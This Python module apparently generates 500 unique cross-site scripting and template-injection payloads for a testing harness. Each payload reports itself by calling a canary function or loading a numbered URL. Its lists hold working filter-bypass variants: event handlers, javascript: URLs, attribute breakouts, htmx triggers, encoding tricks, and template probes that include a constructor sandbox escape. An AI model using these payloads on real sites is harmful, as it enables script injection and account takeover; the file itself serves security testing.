"""Five hundred texts that want to be a script, a request or a template; each says who it is when it runs.

In every text stands `{}` for a number: run, it calls `zqran({})`, or the page asks for `/zqsent/{}`.
"""

import itertools

NUMBER = 500
_CALL = "zqran({})"
_TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script >", "<script/x>{}</script>",
    "<<script>{}//<</script>", "</script><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "</option></select><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "</template><script>{}</script>",
    "<svg><script>{}</script></svg>", "<math><script>{}</script></math>", "<noscript><script>{}</script>",
    "<script type=module>{}</script>", "<script async src='data:text/javascript,{}'></script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<template><script>{}</script></template>",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<video src=x onerror={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<details open ontoggle={}>x", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<marquee onstart={}>x", "<object data=x onerror={}>", "<embed src=x onload={}>",
    "<iframe onload={}>", "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>",
    "<a autofocus tabindex=1 onfocus={}>x", "<div style='animation:x' onanimationstart={}>x",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math href=x onfocus={} tabindex=1 autofocus>",
    "<keygen autofocus onfocus={}>", "<isindex autofocus onfocus={}>",
)  # fmt: skip
_BREAKERS = (
    '"{}', "'{}", '">{}', "'>{}", '"/>{}', "`>{}", '\\">{}', "&quot;>{}", "\u201c>{}", "\u2028>{}",
)  # fmt: skip
_ATTRIBUTES = (
    " onmouseover={} ", " autofocus onfocus={} x=", " onfocus={} autofocus tabindex=0 ", " onpointerenter={} ",
    " style=animation-name:x onanimationstart={} ", " onload={} ", " onerror={} src=x ", " accesskey=x onclick={} ",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}", "javascript://%0a{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;charset=utf-8,<script>{}</script>",
    "view-source:javascript:{}", "feed:javascript:{}", "jav&#x0A;ascript:{}",
)  # fmt: skip
_LINKS = (
    "{}", "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button autofocus>x</button></form>",
    "<base href='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<object data='{}'></object>",
    "<svg><a xlink:href='{}'>x</a></svg>",
)  # fmt: skip
_HTMX = (
    'hx-get="/zqsent/{}" hx-trigger="load"', 'hx-post="/zqsent/{}" hx-trigger="load"',
    'data-hx-get="/zqsent/{}" data-hx-trigger="load"', 'hx-get="/zqsent/{}" hx-trigger="revealed"',
    'hx-get="/zqsent/{}" hx-trigger="every 100ms"', 'hx-on:htmx:load="zqran({})"', 'hx-on::load="zqran({})"',
    'hx-vals="js:{{x: zqran({})}}" hx-get="/zqsent/{}" hx-trigger="load"', 'hx-headers="js:{{x: zqran({})}}"',
    'hx-ext="x" hx-get="/zqsent/{}" hx-trigger="load"', 'hx-trigger="load[zqran({})]" hx-get="/zqsent/{}"',
    'hx-boost="true" href="/zqsent/{}"', 'hx-include="*" hx-get="/zqsent/{}" hx-trigger="load"',
    'hx-sse="connect:/zqsent/{}"', 'hx-ws="connect:/zqsent/{}"', 'hx-delete="/zqsent/{}" hx-trigger="load"',
)  # fmt: skip
_CARRIERS = (
    "<div {}></div>",
    '"><div {}></div>',
    "'><img {}>",
    "<button {}>x</button>",
    '" {} x="',
)
_SENDERS = (
    "<img src=/zqsent/{}>", "<link rel=stylesheet href=/zqsent/{}>", "<link rel=prefetch href=/zqsent/{}>",
    "<style>@import '/zqsent/{}';</style>", "<div style=\"background:url('/zqsent/{}')\">x</div>",
    "<meta http-equiv=refresh content='0;url=/zqsent/{}'>", "<iframe src=/zqsent/{}></iframe>",
    "<object data=/zqsent/{}></object>", "<embed src=/zqsent/{}>", "<video src=/zqsent/{} autoplay>",
    "<video poster=/zqsent/{}>", "<svg><image href=/zqsent/{} /></svg>", "<svg><use href='/zqsent/{}#x'/></svg>",
    "<input type=image src=/zqsent/{}>", "<body background=/zqsent/{}>", "<table background=/zqsent/{}>",
    "<script src=/zqsent/{}></script>", "<link rel=manifest href=/zqsent/{}>", "<img srcset='/zqsent/{} 1x'>",
    "<picture><source srcset=/zqsent/{}><img></picture>", "<frameset><frame src=/zqsent/{}></frameset>",
)  # fmt: skip
_TEMPLATES = (
    "{{% load static %}}{{% static 'zqsent/{}' %}}", "{{{{ zqran({}) }}}}", "{{% include 'zqsent/{}' %}}",
    "{{% debug %}}{{# {} #}}", "${{zqran({})}}", "#{{zqran({})}}", "<%= zqran({}) %>", "[[zqran({})]]", "*{{zqran({})}}",
    "{{{{constructor.constructor('zqran({})')()}}}}", "{{{{'a'|safe}}}}<script>zqran({})</script>", "@(zqran({}))",
    "{{{{ request.user.password }}}}{}", "%(zqran)s %({})s", "{{0.__class__}}{}", "\\u003cscript\\u003ezqran({})\\u003c/script\\u003e",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;zqran({})&lt;/script&gt;", "%3Cscript%3Ezqran({})%3C/script%3E", "\uff1cscript\uff1ezqran({})\uff1c/script\uff1e",
    "+ADw-script+AD4-zqran({})+ADw-/script+AD4-", "\x0c<svg\x0conload=zqran({})>", "<svg\x0bonload=zqran({})>",
    "<\u0000script>zqran({})</script>", "<scr\u200bipt>zqran({})</script>", "\u202e<script>zqran({})</script>",
    "\ufeff<script>zqran({})</script>", "<ſcript>zqran({})</ſcript>", "<img src=x one\u0301rror=zqran({})>",
    "&#60;script&#62;zqran({})&#60;/script&#62;", "\\x3cscript\\x3ezqran({})\\x3c/script\\x3e", "<!--><img src=x onerror=zqran({})>-->",
    "<![CDATA[<script>zqran({})</script>]]>",
)  # fmt: skip


def scripts() -> list[str]:
    """Exactly NUMBER different ones, each kind from its beginning; `.format` is not theirs: use `said`."""
    call = [
        _CALL,
        "window['zqr'+'an']({})",
        "alert({})||zqran({})",
        "setTimeout('zqran({})')",
        "top.zqran({})",
    ]
    kinds: list[list[str]] = [
        [tag.replace("{}", what) for what in call for tag in _TAGS],
        [
            element.replace("{}", what)
            for what in (_CALL, "&#122;qran({})")
            for element in _ELEMENTS
        ],
        [
            breaker.replace("{}", inside.replace("{}", _CALL))
            for breaker, inside in itertools.product(_BREAKERS, _ATTRIBUTES)
        ],
        [
            link.replace("{}", address.replace("{}", _CALL))
            for address, link in itertools.product(_ADDRESSES, _LINKS)
        ],
        [
            carrier.replace("{}", words.replace("{{", "{").replace("}}", "}"))
            for words, carrier in itertools.product(_HTMX, _CARRIERS)
        ],
        [
            breaker.replace("{}", sender)
            for sender in _SENDERS
            for breaker in ("{}", '">{}', "'>{}")
        ],
        [words.replace("{{", "{").replace("}}", "}") for words in _TEMPLATES],
        list(_ENCODED),
    ]
    mixed = itertools.chain.from_iterable(itertools.zip_longest(*kinds))
    found = list(dict.fromkeys(text.replace("\x00", "") for text in mixed if text))
    if len(found) < NUMBER:
        raise ValueError(f"only {len(found)} different scripts")
    return found[:NUMBER]


def said(text: str, number: str) -> str:
    return text.replace("{}", number)
